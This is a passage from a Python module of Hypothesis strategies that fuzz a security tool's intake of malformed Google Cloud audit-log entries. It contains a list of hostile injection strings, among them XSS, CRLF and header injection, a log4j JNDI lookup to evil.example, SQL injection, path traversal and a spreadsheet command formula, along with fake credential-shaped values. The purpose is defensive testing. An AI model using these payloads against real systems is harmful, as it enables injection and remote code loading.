"""Hypothesis strategies for hostile intake, built from the shapes in tests/data/corpus.

Three layers, each usable on its own:

- `log_entries()`: LogEntries shaped like the corpus (Cloud Run v1 Create/Replace with a
  Knative `service`, v2 Create/Update with `ingress`/`template`, Run and KMS SetIamPolicy with
  `policy.bindings` and `serviceData.policyDelta.bindingDeltas`, KMS UpdateCryptoKeyVersion,
  DestroyCryptoKeyVersion, CreateKeyRing, CreateCryptoKey, UpdateCryptoKey; and issue 13's:
  Cloud Functions v2, Run jobs and worker pools, project/folder/org IAM, org and deny policies,
  Cloud Armor, Rampart's sink and subscriptions, a key's posture and primary), with hostile
  values (unknown enums, enums as ints, unicode, injection strings, huge strings) in the fields.
  Every free-text value carries `MARKER`, every env var value `VALUE_MARKER`, so a leak into a
  rejection reason (or of a credential into a Finding) is detectable.
- `mutated(doc)` / `broken_entries()`: such an entry, or a real corpus or rule-fixture entry,
  broken: wrong types in any field, keys dropped, snake_case or lower-case keys, values wrapped
  in lists or JSON strings, huge strings, deep nesting, enums as ints or unknown names.
- `deliveries(entry)` / `garbled_deliveries(entry)`: the entry in every envelope Rampart
  accepts (push body, gen1 PubsubMessage, CloudEvents structured, `data_base64`,
  messagePublished, binary mode, raw bytes), intact or garbled.

`INJECTION_STRINGS`, `INJECTION_SITES` and `injection_findings()` are for whoever tests what
reads a Finding (alert formatters, logs): text an attacker controls that must be carried as
data and never interpreted.
"""

from __future__ import annotations

import base64
import copy
import json
import re
import string
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

from hypothesis import strategies as st

from tests.helpers import RULE_FIXTURES, corpus_files

MARKER = "SECRET-MARKER-"
VALUE_MARKER = "VALUE-MARKER-"  # only in env var values, which must never reach a Finding

# Text an attacker can put in a resource name, principal, label, env var name, IAM role or
# annotation, aimed at whatever renders it later: Slack mrkdwn and mentions, HTML e-mail,
# e-mail headers, log4j-style lookups, templates, terminals, spreadsheets.
INJECTION_STRINGS: tuple[str, ...] = (
    "<!channel>",
    "<!here|here> <!everyone>",
    "<@U024BE7LH>",
    "<https://evil.example/login|click here>",
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "[click](https://evil.example) ![x](https://evil.example/p.png)",
    "*bold* _italic_ ~strike~ `code` ```block```",
    "@everyone @here",
    "\r\nBcc: victim@evil.example",
    "x\r\n\r\n<html>smuggled body",
    "%0d%0aSet-Cookie: session=evil",
    "${jndi:ldap://evil.example/a}",
    "{{7*7}} {% raw %} #{7*7}",
    "\x1b[2J\x1b[31mALERT CLEARED\x1b[0m",
    "\x1b]8;;https://evil.example\x07link\x1b]8;;\x07",
    "\u202etxt.exe",
    "zero\u200bwidth\ufeffjoin",
    "nul\x00byte",
    "'; DROP TABLE findings; --",
    "../../../../etc/passwd",
    "=cmd|' /C calc'!A0",
)

AUDIT_LOG = "type.googleapis.com/google.cloud.audit.AuditLog"
RUN = "run.googleapis.com"
KMS = "cloudkms.googleapis.com"
REGIONS = ("us-central1", "us-east1", "us-east4", "us-west1", "us-west2", "europe-west1", "asia-northeast1", "global", "us")

# ---------------------------------------------------------------------------
# Text. Strategies are built once, at import: building them per draw is most of the cost.

_ID = string.ascii_lowercase + string.digits + "-"
IDENT = st.text(_ID, min_size=1, max_size=20)

SECRET_TEXT: st.SearchStrategy[str] = st.builds(
    lambda n, t: f"{MARKER}{n}:{t}",
    st.integers(0, 999),
    st.one_of(
        st.text(max_size=20),
        st.text(st.characters(exclude_categories=()), max_size=20),  # controls, lone surrogates
        st.sampled_from(INJECTION_STRINGS),
        st.integers(1_000, 60_000).map(lambda n: "x" * n),
    ),
)
NAME_SEGMENT = st.one_of(IDENT, IDENT, IDENT, SECRET_TEXT)
REGION = st.one_of(st.sampled_from(REGIONS), st.sampled_from(REGIONS), SECRET_TEXT)
EMAIL = st.one_of(
    st.builds("{}@{}.example".format, IDENT, IDENT),
    st.builds("{}@{}.iam.gserviceaccount.com".format, IDENT, IDENT),
    st.builds("rampart-{}@p.iam.gserviceaccount.com".format, IDENT),  # an ignored principal
    SECRET_TEXT,
)


def secret_text() -> st.SearchStrategy[str]:
    """Free text carrying `MARKER`: plain, any code point, an injection string, or huge."""
    return SECRET_TEXT


def nest(value: Any, depth: int, as_list: bool) -> Any:
    for _ in range(depth):
        value = [value] if as_list else {"k": value}
    return value


_SCALARS = st.one_of(
    st.none(),
    st.booleans(),
    st.integers(-(2**70), 2**70),
    st.sampled_from([10**4000, -(10**300), 0, 1, 2, 3, 4, 5, 7]),
    st.floats(allow_nan=True, allow_infinity=True),
    st.sampled_from(["", " ", "2", "²", "٣", "0" * 5000, "1" * 400, "1e400", "NaN", "true", "TRUE", "null", "\x00"]),
    st.sampled_from(["INGRESS_TRAFFIC_SIDEWAYS", "UNKNOWN", "ADD ", "Disabled", "1e400s", "-5s", "nans", "infs"]),
    SECRET_TEXT,
)
WRONG_VALUES: st.SearchStrategy[Any] = st.one_of(
    _SCALARS,
    st.just([]),
    st.just({}),
    st.lists(_SCALARS, max_size=3),
    st.dictionaries(st.one_of(IDENT, st.sampled_from(["seconds", "paths", "name", "value"])), _SCALARS, max_size=3),
    st.builds(nest, _SCALARS, st.integers(1, 120), st.booleans()),
)


def wrong_values() -> st.SearchStrategy[Any]:
    """Anything but what a field should hold: other JSON types, odd numbers and digit strings,
    unknown enum names, containers, nesting up to 120 deep."""
    return WRONG_VALUES


_ONE_IN_FIVE = st.integers(0, 4)
_ONE_IN_TWENTY = st.integers(0, 19)


@st.composite
def _sometimes_wrong(draw: st.DrawFn, strategy: st.SearchStrategy[Any], odds: st.SearchStrategy[int]) -> Any:
    # Not st.one_of(s, s, s, s, wrong): one_of drops repeated branches, which makes it one in two.
    return draw(WRONG_VALUES) if draw(odds) == 1 else draw(strategy)


def field(strategy: st.SearchStrategy[Any]) -> st.SearchStrategy[Any]:
    """`strategy`, or one time in five a wrong value in its place."""
    return _sometimes_wrong(strategy, _ONE_IN_FIVE)


def rarely_wrong(strategy: st.SearchStrategy[Any]) -> st.SearchStrategy[Any]:
    """`strategy`, or one time in twenty a wrong value: for the fields that decide whether an
    entry is read at all, so that most generated entries still reach the rules."""
    return _sometimes_wrong(strategy, _ONE_IN_TWENTY)


def _maybe(draw: st.DrawFn, value: Any, *, rarely: bool = False) -> Any:
    """`value`, or one time in five (twenty if `rarely`) a wrong value in its place."""
    return draw(WRONG_VALUES) if draw(_ONE_IN_TWENTY if rarely else _ONE_IN_FIVE) == 1 else value


def enum(names: tuple[Any, ...]) -> st.SearchStrategy[Any]:
    """Names, their numbers, unknown names and numbers, numbers as strings."""
    return st.one_of(st.sampled_from(names), st.integers(-1, 9), st.sampled_from(["7", "²", "UNKNOWN_NAME"]), SECRET_TEXT)


INGRESS = ("INGRESS_TRAFFIC_ALL", "INGRESS_TRAFFIC_INTERNAL_ONLY", "INGRESS_TRAFFIC_INTERNAL_LOAD_BALANCER",
           "INGRESS_TRAFFIC_NONE", "INGRESS_TRAFFIC_UNSPECIFIED", "all", "internal", "internal-and-cloud-load-balancing")
EGRESS = ("ALL_TRAFFIC", "PRIVATE_RANGES_ONLY", "VPC_EGRESS_UNSPECIFIED", "all-traffic", "private-ranges-only")
KEY_STATES = ("ENABLED", "DISABLED", "DESTROYED", "DESTROY_SCHEDULED", "PENDING_GENERATION", "CRYPTO_KEY_VERSION_STATE_UNSPECIFIED")
PURPOSES = ("ENCRYPT_DECRYPT", "ASYMMETRIC_SIGN", "ASYMMETRIC_DECRYPT", "MAC", "RAW_ENCRYPT_DECRYPT")
DELTA_ACTIONS = ("ADD", "REMOVE", "ACTION_UNSPECIFIED")
ROLES = ("roles/run.invoker", "roles/cloudkms.cryptoKeyEncrypterDecrypter", "roles/cloudkms.admin", "roles/viewer")
_INGRESS, _EGRESS = field(enum(INGRESS)), field(enum(EGRESS))
_KEY_STATE, _PURPOSE, _DELTA_ACTION = field(enum(KEY_STATES)), field(enum(PURPOSES)), field(enum(DELTA_ACTIONS))

# ---------------------------------------------------------------------------
# Cloud Run services.

_SECRETISH = (
    "postgres://phi:pw@10.0.0.5/phi", "AKIAABCDEFGHIJKLMNOP", "-----BEGIN RSA PRIVATE KEY-----",
    "ghp_" + "a" * 36, "xoxb-1234567890-abc", "AIza" + "B" * 35, '{"private_key": "k"}', "info", "8080",
)
ENV_NAME = st.one_of(
    st.sampled_from(["DB_PASSWORD", "API_KEY", "GITHUB_TOKEN", "LOG_LEVEL", "PORT", "SENTRY_DSN", "AUTH_URL", "CONN_STR", "PWD"]),
    st.text(string.ascii_uppercase + "_", min_size=1, max_size=30),
    SECRET_TEXT,
)
ENV_VALUE = st.builds(lambda n, v: f"{VALUE_MARKER}{n}:{v}", st.integers(0, 999), st.one_of(st.sampled_from(_SECRETISH), st.text(max_size=30)))


def _env_var(v2: bool) -> st.SearchStrategy[dict[str, Any]]:
    ref_key = "valueSource" if v2 else "valueFrom"
    ref = {"secretKeyRef": {"secret" if v2 else "name": "db-password", "version" if v2 else "key": "latest"}}
    return st.fixed_dictionaries({"name": field(ENV_NAME)}, optional={"value": field(ENV_VALUE), ref_key: field(st.just(ref))})


def _containers(v2: bool) -> st.SearchStrategy[list[Any]]:
    c = st.fixed_dictionaries(
        {"image": st.just("us-docker.pkg.dev/p/r/app:1")},
        optional={"name": field(NAME_SEGMENT), "env": field(st.lists(_env_var(v2), max_size=5))},
    )
    return field(st.lists(c, max_size=3))


KMS_KEY_NAME = st.builds("projects/{}/locations/{}/keyRings/{}/cryptoKeys/{}".format, NAME_SEGMENT, REGION, NAME_SEGMENT, NAME_SEGMENT)
SERVICE_ACCOUNT = st.one_of(
    st.just(""),
    st.builds("{}-compute@developer.gserviceaccount.com".format, st.integers(0, 10**12)),
    st.builds("{}@appspot.gserviceaccount.com".format, IDENT),
    st.builds("{}@{}.iam.gserviceaccount.com".format, IDENT, IDENT),
    SECRET_TEXT,
)
_V1_ANNOTATIONS = field(st.fixed_dictionaries({}, optional={
    "run.googleapis.com/ingress": _INGRESS,
    "run.googleapis.com/ingress-status": _INGRESS,
    "run.googleapis.com/invoker-iam-disabled": field(st.sampled_from(["true", "false", "True", True, False])),
    "run.googleapis.com/encryption-key": field(KMS_KEY_NAME),
    "run.googleapis.com/client-name": st.sampled_from(["gcloud", "cloud-console"]),
    "serving.knative.dev/creator": field(EMAIL),
}))
_V1_SPEC_BODY = field(st.fixed_dictionaries({
    "template": field(st.fixed_dictionaries({
        "metadata": field(st.fixed_dictionaries({"annotations": field(st.fixed_dictionaries({}, optional={
            "run.googleapis.com/vpc-access-connector": field(NAME_SEGMENT),
            "run.googleapis.com/vpc-access-egress": _EGRESS,
            "run.googleapis.com/network-interfaces": field(st.just('[{"network":"default","subnetwork":"default"}]')),
            "run.googleapis.com/encryption-key": field(KMS_KEY_NAME),
            "autoscaling.knative.dev/maxScale": st.just("100"),
        }))})),
        "spec": field(st.fixed_dictionaries({"containers": _containers(v2=False)}, optional={
            "serviceAccountName": field(SERVICE_ACCOUNT),
            "containerConcurrency": field(st.just(80)),
            "timeoutSeconds": field(st.just(300)),
        })),
    })),
    "traffic": st.just([{"latestRevision": True, "percent": 100}]),
}))
_LABELS = st.dictionaries(st.one_of(IDENT, SECRET_TEXT), st.one_of(IDENT, SECRET_TEXT), max_size=3)
_V2_BODY = st.fixed_dictionaries({}, optional={
    "ingress": _INGRESS,
    "invokerIamDisabled": field(st.booleans()),
    "template": field(st.fixed_dictionaries({"containers": _containers(v2=True)}, optional={
        "serviceAccount": field(SERVICE_ACCOUNT),
        "encryptionKey": field(KMS_KEY_NAME),
        "vpcAccess": field(st.fixed_dictionaries({}, optional={
            "connector": field(NAME_SEGMENT),
            "egress": _EGRESS,
            "networkInterfaces": field(st.just([{"network": "default"}])),
        })),
    })),
})


def _knative_service(draw: st.DrawFn, project: str, service: str) -> dict[str, Any]:
    return {
        "apiVersion": "serving.knative.dev/v1",
        "kind": "Service",
        "metadata": {"name": _maybe(draw, service), "namespace": project, "annotations": draw(_V1_ANNOTATIONS), "labels": draw(_LABELS)},
        "spec": draw(_V1_SPEC_BODY),
    }


# ---------------------------------------------------------------------------
# LogEntries.

_TIMESTAMP = rarely_wrong(st.one_of(st.just("2025-12-02T19:39:34.390943642Z"), st.just("2024-02-02 09:43:54.497796000"), SECRET_TEXT))
_AUTH = rarely_wrong(st.fixed_dictionaries({"principalEmail": rarely_wrong(EMAIL)}))
_USER_AGENT = rarely_wrong(st.text(max_size=40))
_STATUS = st.one_of(
    st.none(), st.just({"code": 0}), st.just({"code": "0"}),
    st.fixed_dictionaries({"code": field(st.sampled_from([3, 6, 7, 10])), "message": SECRET_TEXT}),
)
_LOG_KIND = st.sampled_from(["activity"] * 8 + ["data_access", "system_event"])
_INSERT_ID = rarely_wrong(st.one_of(st.text(_ID, min_size=5, max_size=14), SECRET_TEXT))
_OPERATION = st.one_of(st.none(), st.fixed_dictionaries({"id": rarely_wrong(IDENT)}, optional={"first": st.booleans(), "last": st.booleans()}))


def _shell(
    draw: st.DrawFn, service: str, method: str, resource_name: str, request: Any, project: str, *,
    resource_type: str, labels: dict[str, Any], response: Any = None, service_data: Any = None,
) -> dict[str, Any]:
    pp: dict[str, Any] = {
        "@type": AUDIT_LOG,
        "serviceName": service,
        "methodName": method,
        "resourceName": resource_name,
        "authenticationInfo": draw(_AUTH),
        "requestMetadata": {"callerIp": "1.2.3.4", "callerSuppliedUserAgent": draw(_USER_AGENT)},
        "request": _maybe(draw, request, rarely=True),
    }
    if response is not None:
        pp["response"] = response
    if service_data is not None:
        pp["serviceData"] = service_data
    status = draw(_STATUS)
    if status is not None:
        pp["status"] = status
    entry: dict[str, Any] = {
        "insertId": draw(_INSERT_ID),
        "logName": f"projects/{project}/logs/cloudaudit.googleapis.com%2F{draw(_LOG_KIND)}",
        "protoPayload": pp,
        "resource": {"type": resource_type, "labels": labels},
        "timestamp": draw(_TIMESTAMP),
        "receiveTimestamp": "2025-12-02T19:39:35Z",
        "severity": "NOTICE",
    }
    op = draw(_OPERATION)
    if op is not None:
        entry["operation"] = {**op, "producer": service}
    return entry


_RUN_V1_WRITES = st.sampled_from(["google.cloud.run.v1.Services.CreateService", "google.cloud.run.v1.Services.ReplaceService"])
_RUN_V2_WRITES = st.sampled_from(["google.cloud.run.v2.Services.CreateService", "google.cloud.run.v2.Services.UpdateService"])


@st.composite
def run_v1_write(draw: st.DrawFn) -> dict[str, Any]:
    """Cloud Run v1 Create/ReplaceService with a Knative `service` body (corpus: run/kktae-*, slackbot-*)."""
    project, loc, svc = draw(NAME_SEGMENT), draw(REGION), draw(NAME_SEGMENT)
    method = draw(_RUN_V1_WRITES)
    request: dict[str, Any] = {"@type": f"type.googleapis.com/google.cloud.run.v1.{method.rsplit('.', 1)[1]}Request",
                               "service": _knative_service(draw, project, svc)}
    if method.endswith("CreateService"):
        request["parent"] = f"namespaces/{project}" if draw(st.booleans()) else f"projects/{project}/regions/{loc}"
    else:
        v2_name = draw(st.booleans())
        request["name"] = f"projects/{project}/locations/{loc}/services/{svc}" if v2_name else f"namespaces/{project}/services/{svc}"
    request["region"] = _maybe(draw, loc)
    response = None
    if draw(st.booleans()):
        response = {"@type": "type.googleapis.com/google.cloud.run.v1.Service", **_knative_service(draw, project, svc)}
    labels = {"project_id": project, "location": loc, "service_name": svc, "configuration_name": "", "revision_name": ""}
    return _shell(draw, RUN, method, f"namespaces/{project}/services/{svc}", request, project,
                  resource_type="cloud_run_revision", labels=labels, response=response)


@st.composite
def run_v2_write(draw: st.DrawFn) -> dict[str, Any]:
    """Cloud Run v2 Create/UpdateService with `ingress` and `template` (FORMAT_NOTES §1b)."""
    project, loc, svc = draw(NAME_SEGMENT), draw(REGION), draw(NAME_SEGMENT)
    method = draw(_RUN_V2_WRITES)
    name = f"projects/{project}/locations/{loc}/services/{svc}"
    body = {"name": _maybe(draw, name), **draw(_V2_BODY)}
    if method.endswith("CreateService"):
        request: dict[str, Any] = {"parent": f"projects/{project}/locations/{loc}", "serviceId": svc, "service": body}
        resource_name = f"projects/{project}/locations/{loc}"
    else:
        request = {"service": body}
        resource_name = name
    request["@type"] = f"type.googleapis.com/google.cloud.run.v2.{method.rsplit('.', 1)[1]}Request"
    if draw(st.booleans()):
        request["validateOnly" if draw(st.booleans()) else "validate_only"] = _maybe(draw, draw(st.booleans()))
    labels = {"project_id": project, "location": loc, "service_name": svc}
    return _shell(draw, RUN, method, resource_name, request, project, resource_type="cloud_run_revision", labels=labels)


MEMBERS = st.one_of(
    st.sampled_from(["allUsers", "allAuthenticatedUsers", "domain:example.com",
                     "serviceAccount:service-123@gcp-sa-financialservices.iam.gserviceaccount.com",
                     "serviceAccount:service-123@compute-system.iam.gserviceaccount.com"]),
    st.builds("user:{}".format, EMAIL),
    st.builds("group:{}@evil.example".format, IDENT),
    SECRET_TEXT,
)
_ROLE = field(st.one_of(st.sampled_from(ROLES), SECRET_TEXT))
POLICY = st.fixed_dictionaries(
    {"bindings": field(st.lists(st.fixed_dictionaries(
        {"role": _ROLE, "members": field(st.lists(field(MEMBERS), max_size=5))},
        optional={"condition": st.just({"title": "t", "expression": "request.time < timestamp('2030-01-01T00:00:00Z')"})},
    ), max_size=4))},
    optional={"etag": st.just("BwX"), "version": st.just(3)},
)
POLICY_DELTA = st.fixed_dictionaries({
    "@type": st.just("type.googleapis.com/google.iam.v1.logging.AuditData"),
    "policyDelta": field(st.fixed_dictionaries({"bindingDeltas": field(st.lists(
        st.fixed_dictionaries({"action": _DELTA_ACTION, "role": _ROLE, "member": field(MEMBERS)}), max_size=4))})),
})
_RUN_SET_IAM = st.sampled_from(["google.cloud.run.v1.Services.SetIamPolicy", "google.cloud.run.v2.Services.SetIamPolicy"])
_MAYBE_POLICY = st.one_of(st.none(), POLICY)
_MAYBE_DELTA = st.one_of(st.none(), rarely_wrong(POLICY_DELTA))


@st.composite
def set_iam(draw: st.DrawFn) -> dict[str, Any]:
    """SetIamPolicy on a Cloud Run service or a KMS key/key ring: `policy.bindings`, and maybe
    `serviceData.policyDelta.bindingDeltas` (FORMAT_NOTES §3)."""
    project, loc = draw(NAME_SEGMENT), draw(REGION)
    if draw(st.booleans()):
        service, method, rtype = RUN, draw(_RUN_SET_IAM), "cloud_run_revision"
        resource = f"projects/{project}/locations/{loc}/services/{draw(NAME_SEGMENT)}"
    else:
        service, method, rtype = KMS, "SetIamPolicy", "cloudkms_cryptokey"
        resource = f"projects/{project}/locations/{loc}/keyRings/{draw(NAME_SEGMENT)}"
        if draw(st.booleans()):
            resource += f"/cryptoKeys/{draw(NAME_SEGMENT)}"
    request = {"@type": "type.googleapis.com/google.iam.v1.SetIamPolicyRequest", "resource": _maybe(draw, resource),
               "policy": draw(field(POLICY))}
    return _shell(draw, service, method, resource, request, project, resource_type=rtype,
                  labels={"project_id": project, "location": loc}, response=draw(_MAYBE_POLICY), service_data=draw(_MAYBE_DELTA))


_KMS_METHODS = st.sampled_from(["UpdateCryptoKeyVersion", "DestroyCryptoKeyVersion", "CreateKeyRing", "CreateCryptoKey", "UpdateCryptoKey"])
_VERSION_ID = st.one_of(st.integers(1, 9).map(str), NAME_SEGMENT)
_ROTATION = field(st.one_of(
    st.sampled_from(["7776000s", "31536000s", "1.5s", "0s", "-5s", "1e400s", "infs", "nans", "s", ""]),
    st.integers(-(10**20), 10**400).map("{}s".format),
    st.fixed_dictionaries({"seconds": field(st.one_of(st.integers(-(10**20), 10**400), st.integers().map(str)))}),
))
_MASK = field(st.one_of(
    st.sampled_from(["state", "rotationPeriod,nextRotationTime", "labels", "rotation_period", ""]),
    st.fixed_dictionaries({"paths": field(st.lists(field(st.sampled_from(["state", "rotationPeriod", "labels"])), max_size=3))}),
))
_MAYBE_MASK = st.one_of(st.none(), _MASK)
_MAYBE_ROTATION = st.one_of(st.none(), _ROTATION)


@st.composite
def kms_change(draw: st.DrawFn) -> dict[str, Any]:
    """KMS UpdateCryptoKeyVersion (state, `updateMask` string or paths), DestroyCryptoKeyVersion,
    CreateKeyRing, CreateCryptoKey, UpdateCryptoKey (rotation) (corpus: cloudkms/*, FORMAT_NOTES §2)."""
    project, loc, ring, key = draw(NAME_SEGMENT), draw(REGION), draw(NAME_SEGMENT), draw(NAME_SEGMENT)
    parent = f"projects/{project}/locations/{loc}"
    key_name = f"{parent}/keyRings/{ring}/cryptoKeys/{key}"
    version = f"{key_name}/cryptoKeyVersions/{draw(_VERSION_ID)}"
    method = draw(_KMS_METHODS)
    response: Any = None
    request: dict[str, Any]
    if method == "UpdateCryptoKeyVersion":
        resource_name = version
        request = {"cryptoKeyVersion": _maybe(draw, {"name": _maybe(draw, version), "state": draw(_KEY_STATE)})}
    elif method == "DestroyCryptoKeyVersion":
        resource_name = version
        request = {"name": _maybe(draw, version)}
        response = {"name": version, "state": draw(_KEY_STATE), "destroyTime": _maybe(draw, draw(SECRET_TEXT))}
    elif method == "CreateKeyRing":
        resource_name = f"{parent}/keyRings/{ring}"
        request = {"parent": _maybe(draw, parent), "keyRingId": _maybe(draw, ring)}
    elif method == "CreateCryptoKey":
        resource_name = key_name
        crypto_key = {"purpose": draw(_PURPOSE)}
        rotation = draw(_MAYBE_ROTATION)
        if rotation is not None:
            crypto_key["rotationPeriod"] = rotation
        request = {"parent": _maybe(draw, f"{parent}/keyRings/{ring}"), "cryptoKeyId": _maybe(draw, key), "cryptoKey": _maybe(draw, crypto_key)}
    else:
        resource_name = key_name
        crypto_key = {"name": _maybe(draw, key_name)}
        rotation = draw(_MAYBE_ROTATION)
        if rotation is not None:
            crypto_key["rotationPeriod"] = rotation
        request = {"cryptoKey": _maybe(draw, crypto_key)}
    if method in ("UpdateCryptoKeyVersion", "UpdateCryptoKey"):
        mask = draw(_MAYBE_MASK)
        if mask is not None:
            request["updateMask" if draw(st.booleans()) else "update_mask"] = mask
    request["@type"] = f"type.googleapis.com/google.cloud.kms.v1.{method}Request"
    return _shell(draw, KMS, method, resource_name, request, project, resource_type="cloudkms_cryptokeyversion",
                  labels={"project_id": project, "location": loc, "key_ring_id": ring}, response=response)


# ---------------------------------------------------------------------------
# Issue 13's doors: Cloud Functions v2, Run jobs and worker pools, IAM above the resource, deny
# and org policies, Cloud Armor, Rampart's own plumbing, the KMS key's posture.

FN = "cloudfunctions.googleapis.com"
_FN_INGRESS = field(enum(("ALLOW_ALL", "ALLOW_INTERNAL_ONLY", "ALLOW_INTERNAL_AND_GCLB", "INGRESS_SETTINGS_UNSPECIFIED")))
_FN_EGRESS = field(enum(("PRIVATE_RANGES_ONLY", "ALL_TRAFFIC", "VPC_CONNECTOR_EGRESS_SETTINGS_UNSPECIFIED")))
_SERVICE_CONFIG = field(st.fixed_dictionaries({}, optional={
    "ingressSettings": _FN_INGRESS,
    "serviceAccountEmail": field(SERVICE_ACCOUNT),
    "environmentVariables": field(st.dictionaries(ENV_NAME, field(ENV_VALUE), max_size=4)),
    "secretEnvironmentVariables": field(st.lists(st.fixed_dictionaries({"key": field(ENV_NAME), "secret": field(IDENT)}), max_size=2)),
    "vpcConnector": field(NAME_SEGMENT),
    "vpcConnectorEgressSettings": _FN_EGRESS,
    "directVpcNetworkInterface": field(st.just([{"network": "default"}])),
    "directVpcEgress": field(st.sampled_from(["VPC_EGRESS_ALL_TRAFFIC", "VPC_EGRESS_PRIVATE_RANGES_ONLY", "X"])),
    "service": field(NAME_SEGMENT),
}))


@st.composite
def function_write(draw: st.DrawFn) -> dict[str, Any]:
    """Cloud Functions v2 Create/UpdateFunction: the `operation.last` response (corpus:
    cloudfunctions/mybazaar-updatefunction-8mcj5xd2pm2.json) or the snake_case request."""
    project, loc, fid = draw(NAME_SEGMENT), draw(REGION), draw(NAME_SEGMENT)
    name = f"projects/{project}/locations/{loc}/functions/{fid}"
    method = "google.cloud.functions.v2.FunctionService." + draw(st.sampled_from(["CreateFunction", "UpdateFunction"]))
    body = {"name": _maybe(draw, name), "serviceConfig": draw(_SERVICE_CONFIG), "kmsKeyName": draw(field(KMS_KEY_NAME))}
    if draw(st.booleans()):
        request: Any = {"@type": "type.googleapis.com/google.cloud.functions.v2.UpdateFunctionRequest",
                        "update_mask": {"paths": draw(field(st.lists(st.sampled_from(["service_config.ingress_settings", "labels"]))))},
                        "function": body}
        response = None
    else:
        request, response = {}, {"@type": "type.googleapis.com/google.cloud.functions.v2.Function", **body}
    return _shell(draw, FN, method, name, request, project, resource_type="cloud_function",
                  labels={"project_id": project, "region": loc, "function_name": fid}, response=response)


@st.composite
def workload_write(draw: st.DrawFn) -> dict[str, Any]:
    """Cloud Run v2 Create/UpdateJob and Create/UpdateWorkerPool, v1 Create/ReplaceJob (run.v2.json, run.v1.json)."""
    project, loc, wid = draw(NAME_SEGMENT), draw(REGION), draw(NAME_SEGMENT)
    tmpl = draw(field(st.fixed_dictionaries({"containers": _containers(v2=True)}, optional={
        "serviceAccount": field(SERVICE_ACCOUNT), "encryptionKey": field(KMS_KEY_NAME),
        "vpcAccess": field(st.fixed_dictionaries({}, optional={"connector": field(NAME_SEGMENT), "egress": _EGRESS})),
    })))
    kind = draw(st.sampled_from(["v2job", "v2pool", "v1job"]))
    if kind == "v1job":
        name = f"namespaces/{project}/jobs/{wid}"
        method = "google.cloud.run.v1.Jobs." + draw(st.sampled_from(["CreateJob", "ReplaceJob"]))
        body = {"apiVersion": "run.googleapis.com/v1", "kind": "Job", "metadata": {"name": wid, "annotations": draw(_V1_ANNOTATIONS)},
                "spec": {"template": {"spec": {"template": {"spec": {"serviceAccountName": draw(field(SERVICE_ACCOUNT)),
                                                                     "containers": draw(_containers(v2=False))}}}}}}
        request: dict[str, Any] = {"job": body, "region": _maybe(draw, loc)}
    else:
        coll, key = ("jobs", "job") if kind == "v2job" else ("workerPools", "workerPool")
        name = f"projects/{project}/locations/{loc}/{coll}/{wid}"
        verb = draw(st.sampled_from(["Create", "Update"]))
        method = f"google.cloud.run.v2.{'Jobs' if kind == 'v2job' else 'WorkerPools'}.{verb}{'Job' if kind == 'v2job' else 'WorkerPool'}"
        body = {"name": _maybe(draw, name), "template": {"template": tmpl} if kind == "v2job" else tmpl}
        request = {key: _maybe(draw, body)}
    return _shell(draw, RUN, method, name, request, project, resource_type="cloud_run_job", labels={"project_id": project, "location": loc})


_CRM = "cloudresourcemanager.googleapis.com"
_HIERARCHY = st.sampled_from(["SetIamPolicy", "google.cloud.resourcemanager.v3.Projects.SetIamPolicy",
                              "google.cloud.resourcemanager.v3.Folders.SetIamPolicy",
                              "google.cloud.resourcemanager.v3.Organizations.SetIamPolicy"])
_OTHER_IAM = st.sampled_from([(FN, "google.cloud.functions.v2.FunctionService.SetIamPolicy", "functions"),
                              (RUN, "google.cloud.run.v2.Jobs.SetIamPolicy", "jobs"),
                              (RUN, "google.cloud.run.v2.WorkerPools.SetIamPolicy", "workerPools")])


@st.composite
def wider_set_iam(draw: st.DrawFn) -> dict[str, Any]:
    """SetIamPolicy on a project (v1 logs `request.resource` as a bare id), folder or organization,
    or on a function, job or worker pool (corpus: cloudresourcemanager/*, cloudfunctions/rte-*)."""
    project = draw(NAME_SEGMENT)
    if draw(st.booleans()):
        service, method = _CRM, draw(_HIERARCHY)
        resource = draw(st.sampled_from(["projects/", "folders/", "organizations/"])) + draw(NAME_SEGMENT)
        bare = resource.split("/", 1)[1]
        labels: dict[str, Any] = {"project_id": project}
        resource_name = draw(st.sampled_from([resource, "", bare]))
    else:
        service, method, coll = draw(_OTHER_IAM)
        resource = resource_name = bare = f"projects/{project}/locations/{draw(REGION)}/{coll}/{draw(NAME_SEGMENT)}"
        labels = {"project_id": project}
    request = {"@type": "type.googleapis.com/google.iam.v1.SetIamPolicyRequest", "resource": _maybe(draw, bare),
               "policy": draw(field(POLICY))}
    return _shell(draw, service, method, resource_name, request, project, resource_type="project", labels=labels,
                  response=draw(_MAYBE_POLICY), service_data=draw(_MAYBE_DELTA))


_CONSTRAINTS = st.one_of(st.sampled_from(["run.allowedIngress", "gcp.restrictNonCmekServices", "cloudkms.disableBeforeDestroy",
                                          "iam.allowedPolicyMemberDomains", "compute.vmExternalIpAccess"]), NAME_SEGMENT)
_ORG_RULE = st.fixed_dictionaries({}, optional={
    "enforce": field(st.booleans()), "allowAll": field(st.booleans()), "denyAll": field(st.booleans()),
    "values": field(st.fixed_dictionaries({}, optional={"allowedValues": field(st.lists(field(NAME_SEGMENT), max_size=3))})),
    "condition": field(st.just({"expression": "resource.matchTag('env', 'dev')"})),
})


@st.composite
def guardrail_change(draw: st.DrawFn) -> dict[str, Any]:
    """Org Policy v2 Create/Update/DeletePolicy, v1 SetOrgPolicy/ClearOrgPolicy, IAM v2 deny
    CreatePolicy/UpdatePolicy, Compute setSecurityPolicy/removeRule/patchRule (orgpolicy.v2.json,
    cloudresourcemanager.v1.json, iam.v2.json, compute.v1.json)."""
    project, constraint = draw(NAME_SEGMENT), draw(_CONSTRAINTS)
    parent = f"projects/{project}"
    which = draw(st.sampled_from(["v2", "v1", "deny", "armor"]))
    if which == "v2":
        verb = draw(st.sampled_from(["CreatePolicy", "UpdatePolicy", "DeletePolicy"]))
        name = f"{parent}/policies/{constraint}"
        policy = {"name": _maybe(draw, name), "spec": draw(field(st.fixed_dictionaries({}, optional={
            "rules": field(st.lists(field(_ORG_RULE), max_size=3)), "reset": field(st.booleans()),
            "inheritFromParent": field(st.booleans())})))}
        request: dict[str, Any] = {"name": name} if verb == "DeletePolicy" else {"parent": parent, "policy": policy}
        return _shell(draw, "orgpolicy.googleapis.com", f"google.cloud.orgpolicy.v2.OrgPolicy.{verb}", name, request, project,
                      resource_type="audited_resource", labels={"project_id": project})
    if which == "v1":
        verb = draw(st.sampled_from(["SetOrgPolicy", "ClearOrgPolicy"]))
